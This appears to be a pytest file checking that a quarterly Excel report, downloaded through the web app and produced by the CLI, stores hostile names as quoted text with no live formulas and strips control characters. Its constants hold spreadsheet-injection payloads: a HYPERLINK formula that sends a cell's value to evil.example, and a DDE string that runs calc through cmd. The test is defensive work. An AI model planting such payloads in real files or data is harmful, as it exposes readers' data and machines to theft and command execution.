"""The quarterly report stores names as text: formulas quoted; a legacy control character never fails it."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update

from app.extensions import db
from app.pipeline.figures import figures, parse_quarter
from models import Contest, Institution, Project

PROJECT = '=HYPERLINK("http://evil.example/?"&B2,"点击查看详情")'
CONTEST = "＝cmd|' /C calc'!A0"
INSTITUTION_TAIL = (
    "\x01\x1f"  # openpyxl refuses these characters; rows stored before input checks may hold them
)


@pytest.fixture()
def hostile_rows(app) -> dict[str, str]:  # type: ignore[no-untyped-def]
    """Rename, directly in the database, a project, its contest and an institution of a 2026Q3 signature."""
    with app.app_context():
        s = db.session
        case = figures(s, parse_quarter("2026Q3")).as_json()["success_cases"][0]
        project_id = s.scalar(select(Project.id).where(Project.name == case["project"]).limit(1))
        contest_id = s.get(Project, project_id).contest_id
        institution = case["institution"]
        s.execute(update(Project).where(Project.id == project_id).values(name=PROJECT))
        s.execute(update(Contest).where(Contest.id == contest_id).values(name=CONTEST))
        s.execute(
            update(Institution)
            .where(Institution.name == institution)
            .values(name=institution + INSTITUTION_TAIL)
        )
        s.commit()
    return {"institution": institution}


def _check(body: bytes, institution: str) -> None:
    """Assert the workbook holds the hostile names as quoted text, no formula anywhere, numbers as numbers."""
    with zipfile.ZipFile(io.BytesIO(body)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", z.read(name)), f"a formula in {name}"
    wb = load_workbook(io.BytesIO(body))
    cells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    by_value: dict[Any, list[Any]] = {}
    for c in cells:
        by_value.setdefault(c.value, []).append(c)

    for text in ("'" + PROJECT, "'" + CONTEST):
        assert text in by_value, text
        assert {c.data_type for c in by_value[text]} == {"s"}
    assert PROJECT not in by_value and CONTEST not in by_value
    assert institution in by_value, "the control characters are stripped, the name kept"
    assert not any(isinstance(v, str) and "\x01" in v for v in by_value)

    summary = {r[0].value: r[1] for r in wb["汇总"].iter_rows() if len(r) > 1 and r[0].value}
    assert isinstance(summary["签约"].value, int) and summary["签约"].data_type == "n"
    assert summary["签约"].value > 0


def test_the_downloaded_report_is_safe(hostile_rows, as_user) -> None:  # type: ignore[no-untyped-def]
    sec = as_user("sec")
    page = sec.get("/dashboard?quarter=2026Q3").get_data(as_text=True)
    link = re.search(r'id="download-report" href="([^"]+)"', page)
    assert link is not None
    r = sec.get(link.group(1).replace("&amp;", "&"))
    assert r.status_code == 200, r.get_data(as_text=True)[:300]
    _check(r.data, hostile_rows["institution"])

    r = sec.get("/api/reports/quarterly.xlsx?quarter=2026Q3")
    assert r.status_code == 200
    _check(r.data, hostile_rows["institution"])


def test_the_cli_report_is_safe(hostile_rows, runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    out = tmp_path / "q3.xlsx"
    result = runner.invoke(args=["report", "quarterly", "--quarter", "2026Q3", "--out", str(out)])
    assert result.exit_code == 0, result.output
    _check(out.read_bytes(), hostile_rows["institution"])
